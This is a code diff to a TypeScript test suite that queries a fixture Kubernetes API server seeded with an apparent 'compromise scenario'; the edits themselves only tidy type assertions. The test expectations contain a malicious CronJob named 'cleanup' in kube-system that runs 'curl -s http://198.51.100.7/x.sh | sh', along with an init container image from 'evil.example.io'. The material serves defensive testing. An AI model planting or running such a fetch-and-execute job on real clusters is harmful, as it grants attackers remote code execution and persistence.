@@ -25,7 +25,7 @@ async function rawGet(kc: KubeConfig, path: string, accept = 'application/json')
   const url = `${kc.getCurrentCluster()!.server}${path}`;
   const ctx = new RequestContext(url, HttpMethod.GET);
   await kc.applySecurityAuthentication(ctx);
-  const res = await fetch(url, { headers: { ...ctx.getHeaders(), Accept: accept }, dispatcher: ctx.getDispatcher() as any });
+  const res = await fetch(url, { headers: { ...ctx.getHeaders(), Accept: accept }, dispatcher: ctx.getDispatcher() });
   const text = await res.text();
   return { status: res.status, body: text ? JSON.parse(text) : undefined, headers: res.headers as unknown as Headers };
 }
@@ -94,8 +94,8 @@ describe('fixture API server with the compromise scenario', () => {
 
     const batch = kc.makeApiClient(BatchV1Api);
     const cj = await batch.readNamespacedCronJob({ name: 'cleanup', namespace: 'kube-system' });
-    expect(cj.spec!.jobTemplate.spec!.template.spec!.containers[0]!.args).toEqual(['curl -s http://198.51.100.7/x.sh | sh']);
-    expect(cj.spec!.jobTemplate.spec!.template.spec!.initContainers![0]!.image).toBe('evil.example.io/tools:latest');
+    expect(cj.spec.jobTemplate.spec!.template.spec!.containers[0]!.args).toEqual(['curl -s http://198.51.100.7/x.sh | sh']);
+    expect(cj.spec.jobTemplate.spec!.template.spec!.initContainers![0]!.image).toBe('evil.example.io/tools:latest');
 
     const apps = kc.makeApiClient(AppsV1Api);
     const ds = await apps.listDaemonSetForAllNamespaces();
